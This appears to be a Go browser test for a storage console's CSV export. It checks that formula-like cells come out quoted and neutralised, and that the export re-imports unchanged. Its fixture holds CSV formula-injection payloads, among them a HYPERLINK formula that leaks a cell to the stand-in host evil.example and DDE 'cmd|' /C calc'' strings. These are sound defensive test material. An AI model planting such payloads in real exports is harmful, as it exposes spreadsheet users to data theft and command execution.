package console_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"github.com/cairn-dev/cairn/cmd/internal/console"
	"github.com/cairn-dev/cairn/cmd/internal/httpapi"
	"github.com/cairn-dev/cairn/cmd/internal/node"
	"github.com/cairn-dev/cairn/cmd/internal/node/nodetest"
)

// spreadsheetEntities are entities whose cells a spreadsheet would run
// as formulas if written verbatim: String values and keys starting with
// = + - @, a tab or a carriage return (OWASP's list), one starting with
// the quote that neutralises the others, a Binary value starting with +;
// and numbers of numeric types, negative, which stay numbers.
const spreadsheetEntities = `[
 {"PartitionKey":"=cmd","RowKey":"1",
  "Formula":"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
  "Plus":"+1+1", "Minus":"-2+3+cmd|' /C calc'!A0", "At":"@SUM(1+1)*cmd|' /C calc'!A0",
  "Tab":"\t=1+1", "CR":"\r=1+1", "Quoted":"'=1+1", "Quote":"'plain", "Dash":"-", "Plain":"plain",
  "Neg":-5, "Big@odata.type":"Edm.Int64", "Big":"-9007199254740993",
  "Score@odata.type":"Edm.Double", "Score":-1.5, "Low@odata.type":"Edm.Double", "Low":"-Infinity",
  "Bin@odata.type":"Edm.Binary", "Bin":"+/8="},
 {"PartitionKey":"+p","RowKey":"@r","Note":"x"}
]`

// number is how a value of a numeric type is written when it is a number.
var number = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$`)

// TestCSVExportNeutralisesFormulas: the console's CSV export writes a
// cell that starts with = + - @, a tab or a carriage return (or with the
// quote that marks the others) quoted and prefixed with a single quote,
// so that a spreadsheet shows it as text instead of running it; negative
// numbers of numeric types stay numbers. Importing the export into
// another table gives back the same entities, types and values.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	ctx := browserCtx(t)
	h, _ := nodetest.Start(t, node.Config{})
	tables := httpapi.OperatorPrefix + "devstoreaccount1/"
	for _, name := range []string{"Sheet", "Copy"} {
		if st, _, b := operator(t, h, "POST", tables+"Tables", []byte(`{"TableName":"`+name+`"}`), map[string]string{"Content-Type": "application/json"}); st != http.StatusCreated {
			t.Fatalf("create %s: %d %s", name, st, b)
		}
	}
	var ents []json.RawMessage
	if err := json.Unmarshal([]byte(spreadsheetEntities), &ents); err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		if st, _, b := operator(t, h, "POST", tables+"Sheet", e, map[string]string{"Content-Type": "application/json"}); st != http.StatusCreated {
			t.Fatalf("insert %s: %d %s", e, st, b)
		}
	}

	downloads := t.TempDir()
	u := &ui{t: t, ctx: ctx, shots: t.TempDir()}
	u.do("export the table as CSV",
		chromedp.Navigate(h.HTTPURL()+console.Path),
		chromedp.WaitVisible("#login-dialog[open]", chromedp.ByQuery),
		chromedp.SendKeys("#login-token", h.OperatorToken(), chromedp.ByQuery),
		chromedp.Click("#login-submit", chromedp.ByQuery),
		chromedp.WaitVisible("#table-list", chromedp.ByQuery),
		chromedp.Evaluate(`location.hash = '#/tables/Sheet'`, nil),
		until(`!!document.querySelector('#page-info') && document.querySelector('#page-info').textContent.startsWith('Page 1 · 2 entities')`),
		setDownloads(downloads),
		chromedp.Click("#export-csv", chromedp.ByQuery))
	raw := string(waitFile(t, downloads, ".csv"))

	// As OWASP recommends: quoted, a single quote first.
	for _, cell := range []string{
		`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`,
		`"'+1+1"`, `"'-2+3+cmd|' /C calc'!A0"`, `"'@SUM(1+1)*cmd|' /C calc'!A0"`,
		"\"'\t=1+1\"", "\"'\r=1+1\"", `"''=1+1"`, `"''plain"`, `"'-"`, `"'+/8="`, `"'-Infinity"`,
		"\r\n\"'+p\",\"'@r\",", "\r\n\"'=cmd\",1,",
		",-5,Edm.Int32,", ",-9007199254740993,Edm.Int64,", ",-1.5,Edm.Double,", ",plain,Edm.String",
	} {
		if !strings.Contains(raw, cell) {
			t.Errorf("the export lacks the cell %q", cell)
		}
	}
	if t.Failed() {
		t.Logf("the export:\n%q", raw)
	}
	// And no cell a spreadsheet would run: every cell starting with one
	// of OWASP's characters is a number of a numeric type.
	r := csv.NewReader(strings.NewReader(raw))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, raw)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell == "" || !strings.ContainsAny(cell[:1], "=+-@\t\r") {
				continue
			}
			typed := i+1 < len(row) && strings.HasSuffix(rows[0][i+1], "@type") && strings.Contains("Edm.Int32 Edm.Int64 Edm.Double", row[i+1])
			if !typed || !number.MatchString(cell) {
				t.Errorf("column %s: the cell %q would run in a spreadsheet", rows[0][i], cell)
			}
		}
	}

	// The export imports back as it was.
	file := filepath.Join(t.TempDir(), "sheet.csv")
	if err := os.WriteFile(file, []byte(raw), 0o644); err != nil {
		t.Fatal(err)
	}
	u.do("import the export into Copy",
		chromedp.Evaluate(`location.hash = '#/tables/Copy'`, nil),
		until(`location.hash === '#/tables/Copy' && !!document.querySelector('#page-info') && document.querySelector('#page-info').textContent.startsWith('Page 1 · 0 entities')`),
		chromedp.SetUploadFiles("#import-file", []string{file}, chromedp.ByQuery),
		until(`document.querySelector('#import-progress').classList.contains('done') || document.querySelector('#import-progress').classList.contains('failed')`))
	if msg := u.text("#import-progress span"); !strings.HasPrefix(msg, "Imported 2 of 2 entities") {
		t.Fatalf("import of the export: %q", msg)
	}
	if got, want := entities(t, h, "Copy"), entities(t, h, "Sheet"); !equalEntities(got, want) {
		t.Fatalf("the export imported gives\n%v\nnot\n%v", got, want)
	}
}

// setDownloads lets the page's downloads go to dir.
func setDownloads(dir string) chromedp.Action {
	return chromedp.ActionFunc(func(ctx context.Context) error {
		return browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllow).WithDownloadPath(dir).Do(ctx)
	})
}

// entities reads a table's entities with their type annotations, without
// the ETags and timestamps the server gives each write.
func entities(t *testing.T, h *node.Node, table string) []map[string]any {
	t.Helper()
	st, _, b := operator(t, h, "GET", httpapi.OperatorPrefix+"devstoreaccount1/"+table+"()", nil, map[string]string{"Accept": "application/json;odata=fullmetadata"})
	var page struct{ Value []map[string]any }
	if st != http.StatusOK || json.Unmarshal(b, &page) != nil {
		t.Fatalf("read %s: %d %s", table, st, b)
	}
	for _, e := range page.Value {
		maps.DeleteFunc(e, func(k string, _ any) bool {
			return strings.HasPrefix(k, "odata.") || k == "Timestamp" || k == "Timestamp@odata.type"
		})
	}
	return page.Value
}

func equalEntities(a, b []map[string]any) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if !maps.Equal(a[i], b[i]) {
			return false
		}
	}
	return true
}
